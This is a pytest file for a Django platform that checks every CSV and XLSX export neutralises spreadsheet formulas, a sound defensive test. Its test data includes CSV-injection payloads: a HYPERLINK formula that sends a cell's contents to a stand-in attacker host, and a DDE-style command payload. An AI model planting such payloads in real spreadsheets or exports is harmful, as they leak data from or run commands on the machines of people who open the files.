"""No CSV or XLSX the platform writes carries a live formula, whoever typed the names in it.

Every download route is found from the URL configuration (a route whose pattern or name
speaks of csv, xlsx or export); each must have a way here to plant a hostile name where
that route shows it, so that a new export that nobody checked fails
``test_every_export_route_is_walked``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from asmhub.accounts.models import User
from asmhub.conftest import make_org, make_person
from asmhub.core.exports import FORMULA_STARTS, neutralise, to_csv, to_xlsx
from asmhub.core.models import Status
from asmhub.funding.iati_models import Activity
from asmhub.funding.models import Project
from asmhub.funding.tests.conftest import concept, donor, opportunity
from asmhub.monitoring import snapshot, writer
from asmhub.monitoring.models import AdminUnit, Site
from asmhub.monitoring.tests.areadata import areas  # noqa: F401  (a fixture)
from asmhub.monitoring.tests.conftest import monitoring  # noqa: F401  (a fixture)

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")'
OTHERS = ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\t=1+1", "\r=1+1")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
GROUP = re.compile(r"\(\?P<(\w+)>([\w|]+)\)")
CONVERTER = re.compile(r"<(?:\w+:)?(\w+)>")
FORMATS = ("csv", "xlsx")


def _walk(patterns: list[Any], namespace: str = "", prefix: str = "") -> Iterator[tuple[str, str]]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _walk(pattern.url_patterns, inner, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", prefix + str(pattern.pattern)


def export_routes() -> list[tuple[str, dict[str, str]]]:
    """Every (URL name, kwargs) of a download route, one per kind and format it serves."""
    found = []
    for name, route in _walk(get_resolver().url_patterns):
        if not re.search(r"csv|xlsx?|export", f"{name} {route}", re.I):
            continue
        if route.endswith(".json"):  # a JSON document (a person's data), not a spreadsheet
            continue
        choices: dict[str, tuple[str, ...]] = {
            group: tuple(options.split("|")) for group, options in GROUP.findall(route)
        }
        for converted in CONVERTER.findall(route):
            choices.setdefault(converted, FORMATS if converted == "fmt" else ("?",))
        variants: list[dict[str, str]] = [{}]
        for group, options in choices.items():
            wanted = [o for o in options if group != "fmt" or o in FORMATS]
            variants = [{**v, group: o} for v in variants for o in wanted]
        found += [(name, variant) for variant in variants]
    return found


def _site(request: pytest.FixtureRequest) -> str:
    request.getfixturevalue("monitoring")
    site = Site.objects.get(name="Bisie")
    site.name = HOSTILE
    site.save()
    writer.refresh_sites([site.pk])
    snapshot.bump()
    return HOSTILE


def _area(request: pytest.FixtureRequest) -> str:
    request.getfixturevalue("areas")
    AdminUnit.objects.filter(name="Walikale").update(name=HOSTILE)
    snapshot.bump()
    return HOSTILE


def _donor(request: pytest.FixtureRequest) -> str:
    donor(HOSTILE, {"mercury-chemicals": 1.0}, entry_points=[OTHERS[0]])
    return HOSTILE


def _opportunity(request: pytest.FixtureRequest) -> str:
    profile = donor("Andes Fund", {"mercury-chemicals": 1.0})
    opportunity(profile, HOSTILE, dt.date.today() + dt.timedelta(days=30), currency="USD")
    return HOSTILE


def _concept(request: pytest.FixtureRequest) -> str:
    concept(HOSTILE, ("mercury-chemicals",), ("PE",), make_org(OTHERS[1], "national-ngo"))
    return HOSTILE


def _project(request: pytest.FixtureRequest) -> str:
    Project.objects.create(title=HOSTILE, status=Status.PUBLISHED, currency="USD")
    return HOSTILE


def _activity(request: pytest.FixtureRequest) -> str:
    Activity.objects.create(
        iati_identifier="XM-DAC-1-1",
        title=HOSTILE,
        reporting_org_name=OTHERS[2],
        is_asm=True,
        asm_reasons=[OTHERS[3]],
    )
    return HOSTILE


def _common_ground(request: pytest.FixtureRequest) -> None:
    # The matrix shows goal labels and donor slugs, which no one types as such: the walk
    # still checks every cell of it.
    donor(HOSTILE, {"mercury-chemicals": 1.0, "sdg-8": 0.5})
    make_org(HOSTILE, "national-ngo")


def _report_area(request: pytest.FixtureRequest) -> str:
    """A community report in an area whose name is hostile, read by a granted user."""
    from asmhub.monitoring.models import ProgrammeGrant
    from asmhub.reports.services import create

    request.getfixturevalue("monitoring")
    site = Site.objects.get(name="Bisie")
    ProgrammeGrant.objects.create(
        programme=site.programme, user=request.getfixturevalue("admin_user")
    )
    AdminUnit.objects.filter(pk=site.territory_id).update(name=HOSTILE)
    create("web", {"text": OTHERS[0], "site": site})
    return HOSTILE


def _strategy(request: pytest.FixtureRequest) -> str:
    from asmhub.strategy.models import Action, Goal, Objective, Strategy

    strategy = Strategy.objects.create(
        title="Plan",
        starts_on=dt.date(2025, 1, 1),
        ends_on=dt.date(2030, 1, 1),
        status=Status.PUBLISHED,
    )
    goal = Goal.objects.create(strategy=strategy, title="Goal")
    objective = Objective.objects.create(goal=goal, title="Objective")
    Action.objects.create(objective=objective, title=HOSTILE)
    return HOSTILE


def _nothing(request: pytest.FixtureRequest) -> None:
    """The site-visit form is the platform's own: there is nothing to plant."""


# How to plant a hostile name where each export shows it, by URL name and kind;
# None when the export has nothing a user names (it is walked all the same).
PLANTERS: dict[tuple[str, str], Callable[[pytest.FixtureRequest], str | None]] = {
    ("directory:organization-export", ""): lambda r: make_org(HOSTILE).name,
    ("directory:person-export", ""): lambda r: make_person(HOSTILE).name,
    ("funding:export", "donors"): _donor,
    ("funding:export", "opportunities"): _opportunity,
    ("funding:export", "concepts"): _concept,
    ("funding:export", "projects"): _project,
    ("funding:export", "activities"): _activity,
    ("funding:common-ground-export", ""): _common_ground,
    ("monitoring:sites-export", ""): _site,
    ("monitoring:index-export", ""): _area,
    ("monitoring:xlsform", ""): _nothing,
    ("reports:figures-export", ""): _report_area,
    ("strategy:export", ""): _strategy,
}
# Downloads of one record (keyed by its number), each walked by a test of its own below.
WALKED_APART = {
    (
        "monitoring:import-problems",
        "",
    ): "test_the_problem_list_of_an_import_carries_no_live_formula",
    ("strategy:plan-export", ""): "test_a_work_plan_export_carries_no_live_formula",
}
ROUTES = [
    (name, kwargs)
    for name, kwargs in export_routes()
    if (name, kwargs.get("kind", "")) not in WALKED_APART
]


def body_of(response: Any) -> bytes:
    """A download's bytes, whether it was sent whole or streamed."""
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def cells(body: bytes, fmt: str) -> list[object]:
    """Every cell of a download; an XLSX formula cell comes back as ('FORMULA', its text)."""
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    found: list[object] = []
    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                found.append(("FORMULA", cell.value) if cell.data_type == "f" else cell.value)
    return found


def live(value: object) -> bool:
    """Would a spreadsheet program run this cell as a formula?"""
    if isinstance(value, tuple):
        return True
    text = value if isinstance(value, str) else ""
    return text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text)


def test_every_export_route_is_walked() -> None:
    names = {(name, kwargs.get("kind", "")) for name, kwargs in export_routes()}
    assert all(test in globals() for test in WALKED_APART.values())
    assert names == set(PLANTERS) | set(WALKED_APART), (
        "an export route without a hostile-name check here: add it to PLANTERS"
    )
    assert {kwargs.get("fmt") for _name, kwargs in ROUTES} >= set(FORMATS)


@pytest.mark.parametrize(
    ("name", "kwargs"), ROUTES, ids=[f"{n}-{'-'.join(k.values())}" for n, k in ROUTES]
)
def test_no_export_carries_a_live_formula(
    request: pytest.FixtureRequest,
    login: Callable[[User], Client],
    admin_user: User,
    name: str,
    kwargs: dict[str, str],
) -> None:
    planted = PLANTERS[(name, kwargs.get("kind", ""))](request)
    response = login(admin_user).get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200
    found = cells(body_of(response), kwargs.get("fmt", Path(response.wsgi_request.path).suffix[1:]))
    assert found, "the download is empty"
    assert [c for c in found if live(c)] == []
    if planted is not None:
        assert "'" + planted in found


def test_numbers_stay_numbers_and_text_that_starts_like_a_formula_is_quoted() -> None:
    row = [-1.234567, 28.5, 0, "-1.5", *OTHERS, HOSTILE, "plain", "", None]
    columns = [f"c{n}" for n in range(len(row))]
    csv_cells = cells(to_csv(columns, [row]), "csv")[len(row) :]
    assert csv_cells[:4] == ["-1.234567", "28.5", "0", "-1.5"]
    assert csv_cells[4:10] == ["'" + o for o in (*OTHERS, HOSTILE)]
    xlsx_cells = cells(to_xlsx(columns, [row], "t"), "xlsx")[len(row) :]
    assert xlsx_cells[:4] == [-1.234567, 28.5, 0, "-1.5"]
    assert xlsx_cells[4:10] == ["'" + o for o in (*OTHERS, HOSTILE)]
    assert neutralise(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)


def test_every_csv_or_xlsx_writer_is_one_that_neutralises() -> None:
    """A writer outside core/exports.py escapes the walk above unless it is listed here."""
    root = Path(__file__).resolve().parents[2]
    allowed = {
        "core/exports.py",  # the helper itself
        "monitoring/xlsform.py",  # the form's workbook: its cells go through neutralise
        "monitoring/synthetic.py",  # the generated demo survey file, read back on import
        "monitoring/importers.py",  # an import's problem list: its cells go through neutralise
        "monitoring/streams.py",  # streamed site and index downloads: cells go through neutralise
    }
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(")
    found = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    }
    assert found <= allowed
    for path in ("monitoring/xlsform.py", "monitoring/importers.py", "monitoring/streams.py"):
        assert "neutralise(" in (root / path).read_text(encoding="utf-8")


def test_the_problem_list_of_an_import_carries_no_live_formula(
    login: Callable[[User], Client], owner: User
) -> None:
    """An unreadable cell is written back as it was typed in the file: neutralised."""
    from asmhub.monitoring import importers
    from asmhub.monitoring.models import Programme, ProgrammeGrant
    from asmhub.monitoring.tests.test_import_ipis import BISIE, ipis_file
    from asmhub.taxonomy.models import Country

    programme = Programme.objects.create(name="Survey", country=Country.objects.get(code="CD"))
    ProgrammeGrant.objects.create(programme=programme, user=owner, level="manager")
    data = ipis_file({**BISIE, "vid": "1", "mercury": HOSTILE})
    batch = importers.upload(owner, programme, "ipis", "hostile.csv", data)
    response = login(owner).get(reverse("monitoring:import-problems", args=[batch.pk]))
    found = cells(b"".join(response.streaming_content), "csv")
    assert "'" + HOSTILE in found
    assert [c for c in found if live(c)] == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_work_plan_export_carries_no_live_formula(
    login: Callable[[User], Client], admin_user: User, fmt: str
) -> None:
    from asmhub.strategy.models import Activity as PlanActivity
    from asmhub.strategy.models import WorkPlan

    plan = WorkPlan.objects.create(title="Plan 2027", year=2027, status=Status.PUBLISHED)
    PlanActivity.objects.create(plan=plan, title=HOSTILE, description=OTHERS[0])
    response = login(admin_user).get(reverse("strategy:plan-export", args=[plan.slug, fmt]))
    assert response.status_code == 200
    found = cells(body_of(response), fmt)
    assert "'" + HOSTILE in found
    assert [c for c in found if live(c)] == []
